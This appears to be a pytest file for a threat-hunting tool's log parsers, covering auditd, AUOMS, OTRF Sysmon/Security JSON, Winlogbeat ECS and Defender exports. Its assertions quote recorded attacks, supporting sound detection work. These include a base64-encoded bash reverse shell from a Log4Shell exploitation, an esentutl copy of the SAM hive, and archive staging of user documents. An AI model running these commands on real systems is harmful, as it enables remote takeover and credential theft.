"""Linux auditd/AUOMS, OTRF flattened JSON, Winlogbeat ECS and Defender exports.

Real files come from ``../shared/data/real`` (SOURCES.md gives their provenance and the
counts checked here); expected values were read by hand from the files.
"""

from __future__ import annotations

import io
import json
import zipfile
from collections import Counter
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest

from stagehunt.ingest import auditd, mde
from stagehunt.ingest.options import IngestOptions
from stagehunt.ingest.records import RECORD_ID, Record, Reject
from stagehunt.ingest.shapes.ecs import SHAPE as ECS
from stagehunt.ingest.shapes.mde import SHAPE as MDE_JSON
from stagehunt.ingest.shapes.otrf import SHAPE as OTRF
from stagehunt.ingest.sources import Source

REAL = Path(__file__).resolve().parents[2] / "shared" / "data" / "real"
OTRF_DIR = REAL / "OTRF-Security-Datasets"
OPTS = IngestOptions()
SYSMON = "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational"
SECURITY = "XmlWinEventLog:Security"

needs_real = pytest.mark.skipif(not OTRF_DIR.is_dir(), reason="shared real data not present")


def _loads(line: str) -> dict[str, object]:
    """Parse a JSON line as the readers do: numbers kept as their source text."""
    obj = json.loads(line, parse_int=str, parse_float=str)
    assert isinstance(obj, dict)
    return obj


def _utc(y: int, mo: int, d: int, h: int, mi: int, s: int, us: int = 0) -> float:
    return datetime(y, mo, d, h, mi, s, us, tzinfo=UTC).timestamp()


def _bytes_source(name: str, data: bytes) -> Source:
    return Source(name, lambda: io.BytesIO(data), None, len(data))


def _records(items: Iterator[Record | Reject]) -> tuple[list[Record], list[Reject]]:
    records: list[Record] = []
    rejects: list[Reject] = []
    for item in items:
        (rejects if isinstance(item, Reject) else records).append(item)  # type: ignore[arg-type]
    return records, rejects


# --------------------------------------------------------------------------- raw auditd


@needs_real
def test_auditd_arp_cache_two_execve_events() -> None:
    src = Source.from_path(OTRF_DIR / "sh_arp_cache_2020-11-10074812.log")
    assert auditd.sniff(src.head())
    records, rejects = _records(auditd.read(src, OPTS))
    assert rejects == []
    assert [r["process"] for r in records] == ["arp -a", "grep -v ^?"]
    arp, grep = records
    # msg=audit(1604994496.155:92733): 1604994496 - 1604966400 (2020-11-10 00:00 UTC)
    # = 28096 s = 07:48:16; both execs share the same timestamp.
    assert arp["_time"] == pytest.approx(_utc(2020, 11, 10, 7, 48, 16, 155000))
    assert grep["_time"] == arp["_time"]
    assert arp[RECORD_ID] == "1604994496.155:92733"
    assert grep[RECORD_ID] == "1604994496.155:92734"
    assert arp["type"] == ["SYSCALL", "EXECVE", "CWD", "PATH", "PROCTITLE"]
    assert arp["exe"] == arp["process_path"] == "/usr/sbin/arp"
    assert arp["process_name"] == "arp"
    assert arp["comm"] == "arp"
    assert (arp["a0"], arp["a1"], arp["argc"]) == ("arp", "-a", "2")
    assert arp["cmdline"] == "arp -a"
    assert arp["proctitle"] == "arp -a"  # PROCTITLE 617270002D61 decoded, NUL -> space
    assert grep["proctitle"] == "grep -v ^?"  # 67726570002D76005E3F
    assert arp["cwd"] == "/home/wardog"
    assert arp["name"] == ["/usr/sbin/arp", "/lib64/ld-linux-x86-64.so.2"]
    assert arp["inode"] == ["13181", "29514"]
    assert (arp["pid"], arp["ppid"], arp["uid"], arp["auid"]) == ("1631", "29002", "1000", "1000")
    assert (arp["success"], arp["syscall"], arp["key"]) == ("yes", "59", "(null)")
    assert arp["user"] == "1000"
    assert "host" not in arp and "dest" not in arp  # no node= in this file
    assert (arp["index"], arp["sourcetype"]) == ("linux", "linux:audit")
    assert arp["source"] == src.name
    raw = arp["_raw"]
    assert isinstance(raw, str)
    assert raw.count("\n") == 5
    assert raw.startswith("type=SYSCALL msg=audit(1604994496.155:92733): arch=c000003e")
    assert raw.endswith("proctitle=617270002D61")
    assert "EventCode" not in arp


AUDIT_SYNTHETIC = (
    # two events interleaved; the first ends with EOE, the second does not
    "node=web1 type=SYSCALL msg=audit(1700000000.001:10): arch=c000003e syscall=59 success=yes "
    'exit=0 a0=55d0 a1=55d1 a2=55d2 a3=0 items=1 ppid=1 pid=42 auid=1000 uid=0 comm="tar" '
    'exe="/usr/bin/tar" key="stage"\x1dARCH=x86_64 SYSCALL=execve AUID="alice" UID="root"\n'
    "node=web1 type=SYSCALL msg=audit(1700000000.002:11): arch=c000003e syscall=2 success=no "
    'exit=-13 a0=7ffd a1=0 a2=1b6 a3=0 items=1 ppid=42 pid=43 uid=1000 comm="cat" '
    'exe="/usr/bin/cat" key=(null)\n'
    # a1 is hex because it holds a space; a2 is long, written in pieces
    'node=web1 type=EXECVE msg=audit(1700000000.001:10): argc=3 a0="tar" '
    'a1=2D637A66202F746D702F782E74677A a2_len=10 a2[0]="/home/" a2[1]="docs"\n'
    "node=web1 type=CWD msg=audit(1700000000.001:10): cwd=2F746D702F6D7920646972\n"
    "this line is not an audit record\n"
    'node=web1 type=PATH msg=audit(1700000000.002:11): item=0 name="/etc/shadow" nametype=NORMAL\n'
    "node=web1 type=PROCTITLE msg=audit(1700000000.001:10): proctitle=746172002D637A66\n"
    "node=web1 type=EOE msg=audit(1700000000.001:10): \n"
    "node=web1 type=USER_CMD msg=audit(1700000000.500:12): pid=50 uid=1000 auid=1000 "
    "msg='cwd=\"/root\" cmd=6C73202D6C61 terminal=pts/0 res=success'\n"
)


def test_auditd_grouping_hex_interleaving_and_rejects() -> None:
    src = _bytes_source("mem/audit.log", AUDIT_SYNTHETIC.encode())
    assert auditd.sniff(src.head())
    records, rejects = _records(auditd.read(src, IngestOptions(index="lx")))
    assert [(r.position, r.reason.split(" (")[0]) for r in rejects] == [
        ("line 5", "not an auditd record")
    ]
    by_rid = {r[RECORD_ID]: r for r in records}
    assert list(by_rid) == [
        "web1:1700000000.001:10",
        "web1:1700000000.002:11",
        "web1:1700000000.500:12",
    ]
    tar = by_rid["web1:1700000000.001:10"]
    assert tar["process"] == "tar -czf /tmp/x.tgz /home/docs"
    assert (tar["a0"], tar["a1"], tar["a2"]) == ("tar", "-czf /tmp/x.tgz", "/home/docs")
    assert tar["cwd"] == tar["process_current_directory"] == "/tmp/my dir"
    assert tar["proctitle"] == "tar -czf"
    assert tar["type"] == ["SYSCALL", "EXECVE", "CWD", "PROCTITLE"]
    assert (tar["host"], tar["dest"], tar["node"]) == ("web1", "web1", "web1")
    assert (tar["user"], tar["UID"], tar["AUID"], tar["key"]) == ("root", "root", "alice", "stage")
    assert tar["index"] == "lx"
    assert isinstance(tar["_raw"], str) and tar["_raw"].count("\n") == 4  # EOE line included
    cat = by_rid["web1:1700000000.002:11"]  # no EXECVE: SYSCALL args kept, proctitle absent
    assert (cat["a0"], cat["name"], cat["success"]) == ("7ffd", "/etc/shadow", "no")
    assert "process" not in cat and cat["process_name"] == "cat"
    user_cmd = by_rid["web1:1700000000.500:12"]  # nested msg='...' pairs, cmd hex-decoded
    assert (user_cmd["cmd"], user_cmd["cwd"], user_cmd["res"]) == ("ls -la", "/root", "success")


def test_auditd_flush_window_and_stray_eoe() -> None:
    lines = [
        f'type=SYSCALL msg=audit(1700000000.{i:03d}:{i}): syscall=59 pid={i} exe="/bin/true"'
        for i in range(1, 71)
    ]
    lines.append("type=EOE msg=audit(1700000000.001:1): ")  # event 1 was flushed long ago
    src = _bytes_source("w.log", ("\n".join(lines) + "\n").encode())
    records, rejects = _records(auditd.read(src, OPTS))
    assert len(records) == 70
    assert len(rejects) == 1 and "already flushed" in rejects[0].reason
    assert records[0][RECORD_ID] == "1700000000.001:1"  # flushed first, by the window


def test_auditd_sniff_rejects_other_text() -> None:
    assert not auditd.sniff(b'{"EventID": 1}\n')
    assert not auditd.sniff(b"Timestamp,DeviceName\n")
    assert not auditd.sniff(b"")


# --------------------------------------------------------------------------- AUOMS


@needs_real
def test_auoms_sentinel_records() -> None:
    path = (
        OTRF_DIR
        / "syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json"
    )
    records: list[Record] = []
    for line in path.read_text("utf-8").splitlines():
        obj = _loads(line)
        message = obj["SyslogMessage"]
        assert isinstance(message, str)
        outcome = auditd.record_from_auoms(message, obj, OPTS)
        assert not isinstance(outcome, str), outcome
        records.append(outcome)
    assert len(records) == 50
    assert {r["type"] for r in records} == {"AUOMS_EXECVE"}
    assert {(r["host"], r["dest"], r["sourcetype"], r["index"]) for r in records} == {
        ("UBUNTU5", "UBUNTU5", "linux:audit", "linux")
    }
    ran = [r["process"] for r in records if r["success"] == "yes"]
    # java (tomcat) -> bash -c {echo,<b64>}|{base64,-d}|{bash,-i}; whoami; dpkg lookups
    assert ran[0] == (
        'bash -c "{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}'
        '|{base64,-d}|{bash,-i}"'
    )
    assert {"bash -i", "base64 -d", "whoami", "/usr/bin/dpkg -S /usr/bin/whoami"} <= set(ran)
    first = records[0]  # a failed execve by java: proctitle (cut by the kernel) is all there is
    assert first["success"] == "no"
    assert first["exe"] == "/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java"
    assert first["process_name"] == "java"
    assert first["name"] == "/usr/local/sbin/bash"
    assert first["_time"] == pytest.approx(1652292621.986)
    assert first[RECORD_ID] == "1652292621.986:84138"
    assert (first["user"], first["uid"], first["key"]) == ("tomcat", "1001", "auoms,delete")
    bash = records[5]
    assert bash["name"] == ["/bin/bash", "/lib64/ld-linux-x86-64.so.2"]
    assert bash["cwd"] == "/" and bash["argc"] == "3"
    assert "redactors" not in bash  # empty trailer values are absent, as in Splunk


def test_auoms_rejects_other_text() -> None:
    assert isinstance(auditd.record_from_auoms("hello", {}, OPTS), str)


# --------------------------------------------------------------------------- OTRF JSON


def _otrf_lines(name: str) -> Iterator[str]:
    path = OTRF_DIR / name
    if path.suffix == ".zip":
        with zipfile.ZipFile(path) as archive:
            for member in archive.namelist():
                with archive.open(member) as fh:
                    yield from io.TextIOWrapper(fh, encoding="utf-8")
    else:
        with path.open(encoding="utf-8") as fh:
            yield from fh


def _otrf_records(name: str) -> list[Record]:
    records: list[Record] = []
    for line in _otrf_lines(name):
        if not line.strip():
            continue
        obj = _loads(line)
        assert OTRF.matches(obj) and not ECS.matches(obj) and not MDE_JSON.matches(obj)
        outcome = OTRF.to_record(obj, OPTS)
        assert not isinstance(outcome, str), outcome
        records.append(outcome)
    return records


def _counts(records: list[Record]) -> Counter[str]:
    short = {SYSMON: "Sysmon", SECURITY: "Security"}
    return Counter(
        f"{short.get(str(r['sourcetype']), r['sourcetype'])}:{r['EventCode']}" for r in records
    )


#: SOURCES.md per-file counts (the "..." rest is not listed there, so not checked).
OTRF_COUNTS = {
    "cmd_sam_copy_esentutl_2020-10-1900290001.json": (
        915,
        {
            "Sysmon:10": 245,
            "Sysmon:13": 208,
            "Security:4799": 186,
            "Sysmon:9": 117,
            "Sysmon:12": 77,
            "Sysmon:7": 55,
            "Sysmon:11": 4,
            "Sysmon:1": 1,
            "Security:4688": 1,
        },
    ),
    "psh_lsass_memory_dump_comsvcs_2020-10-18T19500924.json": (
        184,
        {
            "Sysmon:10": 68,
            "Sysmon:7": 30,
            "Sysmon:12": 29,
            "Sysmon:13": 15,
            "Sysmon:11": 2,
            "Sysmon:1": 1,
            "Security:4688": 1,
        },
    ),
    "covenant_copy_smb_CreateRequest_2020-09-22145302.json": (
        506,
        {
            "Sysmon:12": 245,
            "Sysmon:10": 79,
            "Sysmon:13": 76,
            "Sysmon:11": 5,
            "Security:5145": 3,
            "Security:5140": 2,
        },
    ),
    "cmd_seatbelt_group_user_2020-11-0216391814.json": (
        451,
        {"Sysmon:10": 157, "Sysmon:7": 122, "Sysmon:12": 23, "Sysmon:13": 16, "Sysmon:11": 11},
    ),
    "aptsimulator_cobaltstrike.zip": (
        2611,
        {
            "Sysmon:10": 1094,
            "Sysmon:7": 911,
            "Sysmon:13": 90,
            "Sysmon:12": 56,
            "Sysmon:1": 37,
            "Sysmon:11": 13,
            "Security:4688": 36,
        },
    ),
    "cmd_dumping_ntds_dit_file_volume_shadow_copy.zip": (
        16843,
        {
            "Sysmon:10": 13924,
            "Sysmon:7": 645,
            "Sysmon:12": 403,
            "Security:5156": 296,
            "Sysmon:13": 255,
            "Sysmon:3": 239,
            "Sysmon:11": 118,
        },
    ),
}


@needs_real
@pytest.mark.parametrize("name", sorted(OTRF_COUNTS))
def test_otrf_event_counts(name: str) -> None:
    total, expected = OTRF_COUNTS[name]
    records = _otrf_records(name)
    assert len(records) == total
    counts = _counts(records)
    assert {k: counts[k] for k in expected} == expected
    assert all(r["index"] == "wineventlog" for r in records)


@needs_real
def test_otrf_esentutl_sam_copy_fields() -> None:
    records = _otrf_records("cmd_sam_copy_esentutl_2020-10-1900290001.json")
    (eid1,) = [r for r in records if r["sourcetype"] == SYSMON and r["EventCode"] == "1"]
    command = "esentutl.exe  /y /vss C:\\windows/system32/config/SAM /d C:\\ProgramData\\SAM"
    assert eid1["CommandLine"] == eid1["process"] == command  # two spaces, as in the file
    assert eid1["Image"] == "C:\\Windows\\System32\\esentutl.exe"
    assert eid1["User"] == "WORKSTATION5\\wardog"
    assert eid1["host"] == eid1["Computer"] == "WORKSTATION5"
    assert eid1["ParentImage"] == "C:\\Windows\\System32\\cmd.exe"
    assert eid1["UtcTime"] == "2020-10-19 04:28:31.089"
    # _time is the shipper's TimeCreated "2020-10-19 12:28:31.098" (8 h off UtcTime in this
    # dataset: the shipper's zone error, kept as written)
    assert eid1["_time"] == pytest.approx(_utc(2020, 10, 19, 12, 28, 31, 98000))
    for metadata in ("Message", "TimeCreated", "Hostname", "SourceName"):
        assert metadata not in eid1
    (eid4688,) = [r for r in records if r["sourcetype"] == SECURITY and r["EventCode"] == "4688"]
    assert eid4688["CommandLine"] == command
    assert eid4688["NewProcessName"] == "C:\\Windows\\System32\\esentutl.exe"
    (target,) = [
        r
        for r in records
        if r["EventCode"] == "11" and r["TargetFilename"] == "C:\\ProgramData\\SAM"
    ]
    assert target["Image"] == "C:\\windows\\system32\\esentutl.exe"  # lower case in the file
    assert "CommandLine" not in target


@needs_real
def test_otrf_nxlog_lower_case_security_channel() -> None:
    records = _otrf_records("covenant_copy_smb_CreateRequest_2020-09-22145302.json")
    lower = [r for r in records if r["Channel"] == "security"]
    assert len(lower) == 50
    assert {r["sourcetype"] for r in lower} == {SECURITY}
    assert {r["source"] for r in lower} == {"XmlWinEventLog:Security"}
    first = next(r for r in lower if r["EventCode"] == "5156")
    # the file's first 5156 line: nxlog metadata gone, System values under XML names
    assert first["ProcessId"] == "3260"  # EventData; nxlog's ExecutionProcessID=4 is System
    assert first["ProcessID"] == "4"
    assert first["Keywords"] == "0x8020000000000000"  # -9214364837600034816 as unsigned hex
    assert first["Opcode"] == "0" and first["Task"] == "12810"
    assert first["EventRecordID"] == first[RECORD_ID] == "854175"
    assert first["host"] == "WORKSTATION5.theshire.local"  # Hostname, not the collector
    assert first["_time"] == pytest.approx(_utc(2020, 9, 22, 18, 53, 6, 198000))  # @timestamp
    for metadata in ("EventType", "SeverityValue", "EventReceivedTime", "port", "tags", "Category"):
        assert metadata not in first
    sysmon13 = next(r for r in records if r["sourcetype"] == SYSMON and r["EventCode"] == "13")
    assert sysmon13["UserID"] == "S-1-5-18"
    assert "AccountName" not in sysmon13 and "EventTypeOrignal" not in sysmon13
    (copy,) = [r for r in records if r.get("TargetFilename") == "C:\\ProgramData\\GruntHTTP.exe"]
    assert copy["EventCode"] == "11" and copy["Image"] == "System"


@needs_real
def test_otrf_service_install_account_name_is_event_data() -> None:
    """AccountName is EventData (7045) outside NXLog records, where nxlog does not add it."""
    records = _otrf_records("aptsimulator_cobaltstrike.zip")
    assert [r["AccountName"] for r in records if "AccountName" in r] == ["LocalSystem"]


# --------------------------------------------------------------------------- ECS


#: A Sysmon EID 1 as Winlogbeat 8.x ships it (field layout per Elastic's "Winlogbeat
#: fields" reference: winlog.channel/event_id/computer_name/record_id/event_data, ...).
ECS_EVENT: dict[str, object] = {
    "@timestamp": "2024-03-01T10:00:00.123Z",
    "agent": {"type": "winlogbeat", "version": "8.12.0"},
    "host": {"name": "ws01.corp.local"},
    "event": {
        "code": "1",
        "kind": "event",
        "provider": "Microsoft-Windows-Sysmon",
        "original": "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>"
        "<System><EventID>1</EventID></System></Event>",
    },
    "log": {"level": "information"},
    "winlog": {
        "channel": "Microsoft-Windows-Sysmon/Operational",
        "computer_name": "WS01.corp.local",
        "event_id": "1",
        "provider_name": "Microsoft-Windows-Sysmon",
        "provider_guid": "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}",
        "record_id": "48213",
        "version": "5",
        "task": "Process Create (rule: ProcessCreate)",
        "opcode": "Info",
        "process": {"pid": "3364", "thread": {"id": "4220"}},
        "user": {"identifier": "S-1-5-18", "name": "SYSTEM", "domain": "NT AUTHORITY"},
        "event_data": {
            "RuleName": "-",
            "UtcTime": "2024-03-01 10:00:00.120",
            "ProcessGuid": "{0b7d1b4e-a6f0-65e1-0c03-000000000a00}",
            "ProcessId": "7712",
            "Image": "C:\\Windows\\System32\\Robocopy.exe",
            "CommandLine": "robocopy C:\\Users\\bob\\Documents C:\\Users\\Public\\stage /E",
            "CurrentDirectory": "C:\\Users\\bob\\",
            "User": "CORP\\bob",
            "IntegrityLevel": "Medium",
            "ParentImage": "C:\\Windows\\System32\\cmd.exe",
            "ParentCommandLine": '"C:\\Windows\\system32\\cmd.exe"',
        },
    },
}


def _flatten(obj: dict[str, object], prefix: str = "") -> dict[str, object]:
    flat: dict[str, object] = {}
    for key, value in obj.items():
        if isinstance(value, dict):
            flat.update(_flatten(value, f"{prefix}{key}."))
        else:
            flat[prefix + key] = value
    return flat


def test_ecs_event_nested_and_flattened() -> None:
    nested = _loads(json.dumps(ECS_EVENT))
    flat = _flatten(nested)
    assert ECS.matches(nested) and ECS.matches(flat)
    assert not OTRF.matches(nested) and not MDE_JSON.matches(nested)
    record = ECS.to_record(nested, OPTS)
    assert not isinstance(record, str), record
    assert ECS.to_record(flat, OPTS) == record
    assert record["EventCode"] == "1"
    assert record["sourcetype"] == SYSMON and record["index"] == "wineventlog"
    assert record["host"] == record["Computer"] == "WS01.corp.local"
    assert record["CommandLine"] == record["process"]
    assert record["process"] == "robocopy C:\\Users\\bob\\Documents C:\\Users\\Public\\stage /E"
    assert record["User"] == record["user"] == "CORP\\bob"
    assert record["process_name"] == "Robocopy.exe"
    assert record["_time"] == pytest.approx(_utc(2024, 3, 1, 10, 0, 0, 123000))
    assert record[RECORD_ID] == record["EventRecordID"] == "48213"
    assert (record["ProcessID"], record["ThreadID"], record["UserID"]) == (
        "3364",
        "4220",
        "S-1-5-18",
    )
    assert record["_raw"] == ECS_EVENT["event"]["original"]  # type: ignore[index]
    assert "Opcode" not in record and "Keywords" not in record  # names, not the XML numbers


def test_ecs_and_otrf_agree_on_event_fields() -> None:
    """The same event shipped flat (HELK) and as ECS gives the same EventData fields."""
    winlog = ECS_EVENT["winlog"]
    assert isinstance(winlog, dict)
    flat_event: dict[str, object] = {
        "EventID": "1",
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Hostname": "WS01.corp.local",
        "SourceName": "Microsoft-Windows-Sysmon",
        "@timestamp": "2024-03-01T10:00:00.123Z",
        "Message": "Process Create: ...",
        **winlog["event_data"],
    }
    from_otrf = OTRF.to_record(flat_event, OPTS)
    from_ecs = ECS.to_record(_loads(json.dumps(ECS_EVENT)), OPTS)
    assert isinstance(from_otrf, dict) and isinstance(from_ecs, dict)
    for key, value in from_otrf.items():
        assert from_ecs.get(key) == value, key


def test_ecs_missing_channel_is_a_reason() -> None:
    assert ECS.to_record({"winlog": {"event_id": "1"}}, OPTS) == "no winlog.channel"


# --------------------------------------------------------------------------- MDE

MDE_PROCESS_CSV = (
    "\ufeffTimestamp,DeviceId,DeviceName,ActionType,FileName,FolderPath,SHA256,"
    "ProcessCommandLine,ProcessId,AccountDomain,AccountName,InitiatingProcessFileName,"
    "InitiatingProcessFolderPath,InitiatingProcessCommandLine,InitiatingProcessId,"
    "InitiatingProcessAccountName,ReportId\r\n"
    "2024-03-01T10:00:00.1234567Z,4f1c0a7e,ws01.corp.local,ProcessCreated,7z.exe,"
    'C:\\Program Files\\7-Zip\\7z.exe,aa11,"7z.exe a -pSecret C:\\Users\\Public\\s.7z '
    '""C:\\Users\\bob\\Documents""",812,corp,bob,cmd.exe,C:\\Windows\\System32\\cmd.exe,'
    '"cmd.exe /c ""stage.bat""",640,bob,10533\r\n'
    "2024-03-01T10:00:01Z,4f1c0a7e,ws01.corp.local,ProcessCreated,cmd.exe,"
    'C:\\Windows\\System32\\cmd.exe,,"cmd.exe /c echo one\ntwo",900,,,explorer.exe,,,,,10534\r\n'
    "not-a-time,4f1c0a7e,ws01.corp.local,ProcessCreated,x.exe,C:\\x.exe,,x,1,,,,,,,,10535\r\n"
    "2024-03-01T10:00:02Z,too,few\r\n"
)

MDE_FILE_CSV = (
    "Timestamp [UTC],DeviceId,DeviceName,ActionType,FileName,FolderPath,SHA256,FileSize,"
    "InitiatingProcessFileName,InitiatingProcessFolderPath,InitiatingProcessCommandLine,"
    "InitiatingProcessAccountDomain,InitiatingProcessAccountName,InitiatingProcessParentFileName,"
    "ShareName,ReportId\n"
    '"3/1/2024, 10:00:05.250 AM",4f1c0a7e,ws01.corp.local,FileCreated,s.7z,'
    "C:\\Users\\Public\\s.7z,bb22,1048576,7z.exe,C:\\Program Files\\7-Zip\\7z.exe,"
    "7z.exe a s.7z,corp,bob,cmd.exe,,10540\n"
)


def test_mde_process_csv() -> None:
    header = MDE_PROCESS_CSV.lstrip("\ufeff").split("\r\n", 1)[0].split(",")
    assert mde.sniff_csv_header(header)
    assert not mde.sniff_csv_header(["_time", "host", "_raw"])
    src = _bytes_source("DeviceProcessEvents.csv", MDE_PROCESS_CSV.encode())
    records, rejects = _records(mde.read_csv(src, OPTS))
    assert [(r.position, r.reason) for r in rejects] == [  # row 2 spans lines 3-4
        ("line 5", "unparsable Timestamp 'not-a-time'"),
        ("line 6", "3 values but the header has 17"),
    ]
    zip7, cmd = records
    assert zip7["sourcetype"] == "mde:DeviceProcessEvents" and zip7["index"] == "mde"
    assert zip7["_time"] == pytest.approx(_utc(2024, 3, 1, 10, 0, 0, 123456), abs=1e-6)
    assert zip7["process"] == zip7["ProcessCommandLine"]
    assert (
        zip7["process"] == '7z.exe a -pSecret C:\\Users\\Public\\s.7z "C:\\Users\\bob\\Documents"'
    )
    assert zip7["process_path"] == "C:\\Program Files\\7-Zip\\7z.exe"
    assert zip7["process_name"] == zip7["FileName"] == "7z.exe"
    assert zip7["user"] == "corp\\bob"
    assert zip7["parent_process_name"] == "cmd.exe"
    assert zip7["parent_process"] == 'cmd.exe /c "stage.bat"'
    assert (zip7["host"], zip7["dest"]) == ("ws01.corp.local", "ws01.corp.local")
    assert zip7[RECORD_ID] == "4f1c0a7e:10533"
    assert isinstance(zip7["_raw"], str) and zip7["_raw"].startswith(
        "2024-03-01T10:00:00.1234567Z,"
    )
    assert cmd["process"] == "cmd.exe /c echo one\ntwo"  # quoted newline kept
    assert cmd["_raw"].endswith("explorer.exe,,,,,10534")  # type: ignore[union-attr]
    assert "AccountName" not in cmd and "user" not in cmd  # empty cells are absent


def test_mde_file_csv_log_analytics_style() -> None:
    src = _bytes_source("files.csv", MDE_FILE_CSV.encode())
    records, rejects = _records(mde.read_csv(src, IngestOptions(index="edr")))
    assert rejects == []
    (row,) = records
    assert row["sourcetype"] == "mde:DeviceFileEvents" and row["index"] == "edr"
    assert row["Timestamp"] == "3/1/2024, 10:00:05.250 AM"
    assert row["_time"] == pytest.approx(_utc(2024, 3, 1, 10, 0, 5, 250000))
    assert row["file_path"] == row["FolderPath"] == "C:\\Users\\Public\\s.7z"
    assert row["file_name"] == "s.7z"
    assert row["process_name"] == "7z.exe" and row["process"] == "7z.exe a s.7z"
    assert row["user"] == "corp\\bob"
    assert row["parent_process_name"] == "cmd.exe"


def test_mde_json_rows() -> None:
    line = json.dumps(
        {
            "Timestamp": "2024-03-01T10:00:05.25Z",
            "DeviceId": "4f1c0a7e",
            "DeviceName": "ws01.corp.local",
            "ActionType": "FileCreated",
            "FileName": "s.7z",
            "FolderPath": "C:\\Users\\Public\\s.7z",
            "FileSize": 1048576,
            "InitiatingProcessFileName": "7z.exe",
            "InitiatingProcessAccountName": "bob",
            "IsInitiatingProcessRemoteSession": False,
            "AdditionalFields": {"FileType": "7z"},
            "ShareName": None,
            "ReportId": 10540,
        }
    )
    obj = _loads(line)
    assert MDE_JSON.matches(obj) and not OTRF.matches(obj) and not ECS.matches(obj)
    record = MDE_JSON.to_record(obj, OPTS)
    assert not isinstance(record, str), record
    assert record["sourcetype"] == "mde:DeviceFileEvents"
    assert record["FileSize"] == "1048576" and record["ReportId"] == "10540"
    assert record["IsInitiatingProcessRemoteSession"] == "false"
    assert record["AdditionalFields"] == '{"FileType":"7z"}'
    assert "ShareName" not in record
    assert record["user"] == "bob"  # no domain column: the name alone
    assert record[RECORD_ID] == "4f1c0a7e:10540"
    assert "_raw" not in record  # the JSON reader keeps the line
    unknown = dict(obj, ActionType="RegistryValueSet")
    del unknown["FolderPath"]
    assert isinstance(MDE_JSON.to_record(unknown, OPTS), str)
